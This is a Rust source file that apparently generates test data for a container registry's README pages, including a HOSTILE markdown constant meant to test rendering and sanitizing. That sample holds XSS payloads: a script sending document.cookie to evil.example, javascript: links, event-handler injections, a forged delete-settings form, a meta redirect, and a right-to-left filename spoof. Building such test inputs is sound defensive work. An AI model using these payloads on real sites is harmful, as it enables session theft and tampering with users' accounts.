//! `io.atcr.repo.page`: READMEs and pictures.

use serde_json::json;
use types::Did;

use super::{catalog::Entry, dice::Dice, png, publisher::Publisher};
use crate::{Result, network::datetime, repo::Write};

/// The collection of pages; the key is the repository.
pub(crate) const PAGE: &str = "io.atcr.repo.page";

/// A page with a picture.
pub(crate) fn page(
    publisher: &Publisher<'_>,
    owner: &Did,
    repository: &str,
    markdown: &str,
    dice: &mut Dice,
    at: u64,
) -> Result<Write> {
    let avatar = publisher.network.put_blob(owner, "image/png", &png::avatar(dice)?)?;
    let record = json!({"$type": PAGE, "repository": repository, "description": markdown, "avatar": avatar,
                        "userEdited": true, "createdAt": datetime(at), "updatedAt": datetime(at)});
    Ok(Write::create(PAGE, repository, record))
}

const NOTE: &str = "\n> **Note** Version numbers follow the upstream project; rebuilds get the same tag.\n";

const CONFIGURATION: &str = "
## Configuration

| variable | default | meaning |
|---|---|---|
| `LOG_LEVEL` | `info` | `error`, `warn`, `info` or `debug` |
| `DATA_DIR` | `/data` | where state is kept |
| `LISTEN` | `0.0.0.0` | the address to bind |
";

const TAGS: &str = "
## Tags

- `latest`: the newest release
- a full version: never moves
- a short version, e.g. `1.2`: moves with its patch releases
";

/// A README such as people write: what it is, how to run it, now and then a table, a list or a warning.
pub(crate) fn readme(entry: &Entry, dice: &mut Dice) -> String {
    let Entry { owner, name, about, .. } = entry;
    let image = format!("atcr.io/{owner}/{name}:latest");
    let compose = format!(
        "\n## Compose\n\n```yaml\nservices:\n  {name}:\n    image: {image}\n    restart: unless-stopped\n    read_only: true\n\
         \x20   volumes:\n      - data:/data\nvolumes:\n  data: {{}}\n```\n"
    );
    let mut text = format!("# {name}\n\n{about}.\n");
    text += if dice.below(3) == 0 { NOTE } else { "" };
    text += &format!("\n## Usage\n\n```sh\ndocker run --rm {image}\n```\n");
    text += if dice.below(2) == 0 { CONFIGURATION } else { "" };
    text += if dice.below(2) == 0 { TAGS } else { "" };
    text += if dice.below(3) == 0 { &compose } else { "" };
    text += &format!("\nIssues and patches are welcome at <https://git.{owner}/{name}>.\n");
    text
}

/// Markdown of someone who wants to be more than text.
pub(crate) const HOSTILE: &str = r#"# totally normal <script>alert('title')</script>

<script>fetch('https://evil.example/?c=' + document.cookie)</script>
<img src=x onerror="alert(1)"> <svg/onload=alert(2)> <iframe src="javascript:alert(3)"></iframe>

[click me](javascript:alert(4)) [or me](data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==) ![](javascript:alert(6))

<a href="https://example.com" onclick="alert(7)" style="position:fixed;inset:0;z-index:99999">a link over everything</a>

<form action="/settings" method="post"><button name="delete" value="everything">Free stars!</button></form>
<style>body { display: none }</style> <base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=//evil.example">

| a | b |
|---|---|
| `</td></table></main>` | &lt;script&gt;alert(8)&lt;/script&gt; |

Right-to-left: &#x202e;gpj.exe&#x202c; and a zalgo h̷̢̛ë̶́l̷̛l̵̈́o̶, <!-- an open comment
"#;
